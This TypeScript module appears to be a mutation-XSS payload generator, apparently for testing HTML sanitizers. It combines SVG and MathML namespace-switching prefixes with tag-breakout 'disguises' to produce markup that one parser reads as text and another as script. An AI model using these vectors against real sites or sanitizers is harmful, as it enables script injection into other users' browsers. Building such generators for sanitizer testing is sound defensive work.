import { PAYLOADS, combine } from './payloads.ts';

/** Ways into another namespace and back into HTML. */
const ENTRANCES = [
  '<svg>',
  '<svg><desc>',
  '<svg><title>',
  '<svg><foreignObject>',
  '<svg></p>',
  '<svg></br>',
  '<math>',
  '<math><mi>',
  '<math><mtext>',
  '<math><mtext><mglyph>',
  '<math><mtext><malignmark>',
  '<math><mtext><table><mglyph>',
  '<math><annotation-xml>',
  '<math><annotation-xml encoding="text/html">',
  '<math><annotation-xml encoding="application/xhtml+xml">',
  '<math><annotation-xml><svg>',
  '<math><semantics><annotation-xml encoding="application/mathml+xml">',
  '<svg><foreignObject><math><mtext><svg><desc>',
];

/** Content that is text in one namespace and markup in the other. */
const DISGUISES = [
  '<style><!--</style>@-->',
  '<style><a title="</style>@">',
  '<style>@</style>',
  '<title><a title="</title>@">',
  '<textarea><a title="</textarea>@">',
  '<noscript><a title="</noscript>@">',
  '<xmp><a title="</xmp>@">',
  '<iframe><a title="</iframe>@">',
  '<noembed><a title="</noembed>@">',
  '<noframes><a title="</noframes>@">',
  '<script><a title="</script>@">',
  '<![CDATA[@]]>',
  '<![CDATA[><a title="]]>@">',
  '<!--><a title="-->@">',
  '<p><style><!--</style>@--></p>',
  '@',
];

/** Returns attacks that confuse HTML, SVG and MathML. */
export function foreign(): string[] {
  return combine(ENTRANCES, DISGUISES, PAYLOADS.slice(0, 3)).map(([entrance, disguise, payload]) =>
    [entrance, disguise!.replaceAll('@', () => payload!)].join(''),
  );
}
